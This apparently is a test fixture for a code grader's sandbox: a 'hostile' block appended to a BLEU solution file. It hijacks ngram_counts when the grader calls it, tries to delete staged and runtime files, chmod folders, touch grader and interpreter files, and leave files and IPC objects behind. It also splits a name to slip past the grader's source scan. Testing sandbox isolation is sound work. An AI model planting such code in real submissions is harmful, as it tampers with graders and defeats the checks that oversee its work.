# hostile: appended to solutions/bleu.py
# A18: damage what can be reached (the staged module, the worker's runtime, a root-only file, the kit, the
# virtual environment: every write is an open for append with nothing written, so nothing changes even if
# it were allowed) and leave state behind for whoever comes next: files in every world-writable temporary
# folder, System V shared memory and a message queue.
import ctypes
import json
import os
import sys

# @@RUNTIME_NAMES@@

_KIT = "auto" + "grader"   # the kit's package, not written whole: the source scan refuses a module that names it (A55)
SENTINEL, REPO, TAG = "@@PRIVATE@@/sentinel.txt", "@@REPO@@", "captionkit-hostile-A18"
work = os.getcwd()
part_scratch = os.path.dirname(work)
scratch = os.path.dirname(part_scratch)


def _attempt(action) -> str:
    try:
        action()
        return "ok"
    except Exception as exc:  # noqa: BLE001
        return type(exc).__name__


def _touch(path):
    return lambda: open(path, "ab").close()


def _leave(path):
    def action():
        with open(path, "w") as f:
            f.write("left behind")
    return action


def _ipc() -> dict:
    libc = ctypes.CDLL(None, use_errno=True)
    return {"shm": libc.shmget(0x41313831, 4096, 0o1600), "msg": libc.msgget(0x41313832, 0o1600)}


def _probe() -> dict:
    found = {
        "rm_staged": _attempt(lambda: os.remove(os.path.join(part_scratch, "staging", "bleu.py"))),
        "chmod_staging": _attempt(lambda: os.chmod(os.path.join(part_scratch, "staging"), 0o777)),
        "rm_runtime": _attempt(lambda: os.remove(os.path.join(scratch, "runtime", _KIT, "worker", "recipes",
                                                              "decoding.py"))),
        "sentinel": _attempt(_touch(SENTINEL)),
        "kit": _attempt(_touch(os.path.join(REPO, _KIT, "grader", "engine.py"))),
        "venv": _attempt(_touch(sys.executable)),
        "own_work": _attempt(_leave(os.path.join(work, "checkpoint.pt"))),
    }
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
        found[folder] = _attempt(_leave(os.path.join(folder, TAG)))
    found.update(_ipc())
    return found


_reference_ngram_counts = ngram_counts


def ngram_counts(tokens, n):
    if _caller_globals(1).get("__name__", "").startswith(_KIT + "."):  # the grader's own call
        raise RuntimeError("PROBE" + json.dumps(_probe(), separators=(",", ":")))
    return _reference_ngram_counts(tokens, n)
